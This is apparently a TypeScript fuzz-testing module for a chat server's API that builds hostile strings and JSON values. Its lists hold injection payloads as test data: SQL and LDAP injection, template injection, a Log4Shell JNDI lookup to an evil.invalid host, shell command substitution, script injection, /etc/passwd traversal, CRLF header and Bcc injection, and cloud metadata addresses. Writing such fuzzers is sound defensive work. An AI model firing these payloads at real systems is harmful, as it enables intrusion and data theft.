import type { Seeded } from './seeded.ts'

/** Text that means something to an interpreter somewhere: SQL, LDAP, templates, shells, regular expressions, HTML. */
const metacharacters = [
  "' OR 1=1 --",
  "'; DROP TABLE sessions; --",
  '" UNION SELECT token_hash FROM tokens --',
  '*)(uid=*',
  '\\2a\\28',
  '{{7*7}}{% include "x" %}',
  '${jndi:ldap://evil.invalid/a}',
  '$(id)`id`|id;id&&id',
  '$& $1 $` %s %n %00',
  '(a+)+$'.repeat(10),
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  'file:///etc/passwd',
  'x\r\nSet-Cookie: a=b\r\n\r\nbody',
  'x\nBcc: victim@example.net',
] as const

/** Text that breaks what takes strings for simple things. */
const oddText = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  'a\udc00b',
  '\ufeff',
  '\u202eabc',
  '\u2028',
  'ﬁn ς ß İ ı é e\u0301',
  '👩‍👩‍👧',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '9007199254740993',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'x'.repeat(256),
  'x'.repeat(3000),
  'é'.repeat(600),
  'a.'.repeat(400),
  '@'.repeat(300),
] as const

/** The edge cases of e-mail addresses: folding, spellings, lengths, lists, headers. */
const emails = [
  'straße@example.org',
  'ﬁn@example.org',
  'ΣΊΣΥΦΟΣ@example.org',
  'İstanbul@example.org',
  'jose\u0301@example.org',
  'ｆｕｌｌ@example.org',
  'bob@STRASSE.example',
  'bob@straße.example',
  'bob@xn--strae-oqa.example',
  'bob@xn--.example',
  'bob+tag@example.org',
  "$\\%'*()@example.org",
  ' bob@example.org ',
  'mailto:bob@example.org',
  'Bob <bob@example.org>',
  'bob@@example.org',
  'bob@example.org@evil.example',
  '"quoted local"@example.org',
  'bob@[127.0.0.1]',
  'bob@example.org,eve@example.org',
  'bob@example.org\r\nBcc: eve@example.org',
  `${'l'.repeat(64)}@example.org`,
  `${'l'.repeat(65)}@example.org`,
  `bob@${'d'.repeat(63)}.${'d'.repeat(63)}.${'d'.repeat(63)}.example`,
  `bob@${'d'.repeat(240)}.example`,
  `${'x'.repeat(488)}@example.org`,
  '@example.org',
  'bob@',
  'bob',
] as const

const phones = [
  '+447700900001',
  '00447700900001',
  '(0)170 123-45/67',
  '07700900001',
  '+1 242 555 0100',
  '+39 06 1234567',
  '+800 1234 5678',
  '110',
  '447700900001;ext=5',
  'tel:+447700900001;phone-context=+44',
  '٠١٢٣٤٥٦٧٨٩',
  '+'.repeat(90),
  '9'.repeat(100),
] as const

/** None leads anywhere: the names do not exist, the addresses are private, reserved or on this machine. */
const serverNames = [
  'nowhere.invalid',
  'nowhere.invalid:8448',
  'nowhere.invalid:99999',
  '127.0.0.1',
  '127.0.0.1:1',
  '[::1]:1',
  '[::ffff:127.0.0.1]',
  '169.254.169.254',
  '10.0.0.1',
  '192.0.2.1',
  '0x7f000001',
  '2130706433',
  'localhost',
  'nowhere.invalid/..',
  'user@nowhere.invalid',
  'nowhere.invalid?x=1',
  'nowhere.invalid#',
] as const

const identifiers = [
  '@alice:example.org',
  '@mallory:example.org',
  '@:example.org',
  '@a\0:example.org',
  '@a:b:c',
  '@alice:nowhere.invalid',
  `@${'a'.repeat(300)}:example.org`,
  '!room:example.org',
  '!room\0:example.org',
  '$event',
  'ed25519:0',
  'ed25519:\0',
] as const

/** Words the API knows, in places where they do not belong. */
const words = ['email', 'msisdn', 'sha256', 'none', 'Bearer', 'GB', 'zz', 'en', 'm.space'] as const

const links = [
  'https://nowhere.invalid/next?a=b#c',
  'javascript:alert(1)',
  'https://user:password@nowhere.invalid',
  'http://[::1',
  '//nowhere.invalid',
  `https://nowhere.invalid/${'x'.repeat(3000)}`,
] as const

const kinds = [metacharacters, oddText, emails, phones, serverNames, identifiers, words, links] as const

export function hostileText(choose: Seeded): string {
  const text = choose.pick<string>(choose.pick<readonly string[]>(kinds))
  if (choose.chance(0.9)) return text
  return text + choose.pick<string>(choose.pick<readonly string[]>(kinds))
}

const numbers = [0, -0, -1, 1.5, 2 ** 31, 2 ** 53 - 1, -(2 ** 53), 1e21, 1e308, 5e-324] as const

/** Anything JSON can say, of every type and size. */
export function hostileValue(choose: Seeded, depth = 0): unknown {
  switch (choose.between(0, depth > 2 ? 5 : 8)) {
    case 0:
      return choose.pick([null, true, false])
    case 1:
      return choose.pick(numbers)
    case 6:
      return Array.from({ length: choose.between(0, 6) }, () => hostileValue(choose, depth + 1))
    case 7:
      return Object.fromEntries(
        Array.from({ length: choose.between(0, 5) }, () => [
          hostileText(choose),
          hostileValue(choose, depth + 1),
        ]),
      )
    case 8:
      return choose.chance(0.05) ? Array(choose.between(100, 20_000)).fill(choose.pick(numbers)) : []
    default:
      return hostileText(choose)
  }
}
